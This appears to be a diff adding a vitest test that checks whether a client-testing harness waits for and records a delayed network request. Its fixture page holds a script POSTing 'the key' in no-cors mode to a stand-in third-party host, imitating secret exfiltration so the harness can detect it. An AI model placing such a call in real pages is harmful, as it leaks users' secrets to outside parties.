@@ -1,0 +1,65 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { expect, test } from 'vitest'
+import { resolveConfiguration } from '../configuration/load.ts'
+import { defineCheck } from './define.ts'
+import { runCheck } from './run.ts'
+import { openSession } from './session.ts'
+
+const page = `<!doctype html><script>
+  fetch('https://metrics.third-party.example/setup', { method: 'POST', mode: 'no-cors', body: 'the key' })
+</script>`
+/** The connection for the request takes three seconds, as on a busy machine. */
+const driver = `
+  export const open = async (page) => {
+    await page.route('**/setup', (route) => setTimeout(() => route.continue(), 3000))
+    await page.goto(location)
+  }
+  export const signIn = async (page) => {}
+  export const connect = async (page) => {}
+  export const signOut = async (page) => {}
+`
+
+test('a request that is long on its way is waited for, and seen', async () => {
+  const server = createServer((_, response) => response.setHeader('content-type', 'text/html').end(page))
+  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
+  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`
+  const directory = await mkdtemp(join(tmpdir(), 'twotoken-late-'))
+  await writeFile(join(directory, 'driver.mjs'), driver.replace('location', JSON.stringify(url)))
+  let seen: readonly string[] = []
+  const check = defineCheck({
+    id: 'CLI-03',
+    role: 'client',
+    level: 'MUST',
+    kind: 'positive',
+    clauses: [],
+    title: 'sends something',
+    why: '',
+    how: '',
+    needs: ['client'],
+    async run({ client }, judge) {
+      await using app = await client.open()
+      await app.waitForQuiet()
+      seen = app
+        .requests()
+        .map((request) => `${request.method} ${new URL(request.url).hostname} ${request.body}`)
+      judge.passed()
+    },
+    catches: {},
+  })
+  try {
+    const configuration = await resolveConfiguration(
+      { client: { url, driver: 'driver.mjs' } },
+      { directory, environment: {} },
+    )
+    await using session = await openSession(configuration)
+    expect(await runCheck(check, session)).toMatchObject({ verdict: 'pass' })
+  } finally {
+    server.close()
+    await rm(directory, { recursive: true, force: true })
+  }
+  expect(seen).toContain('POST metrics.third-party.example the key')
+})
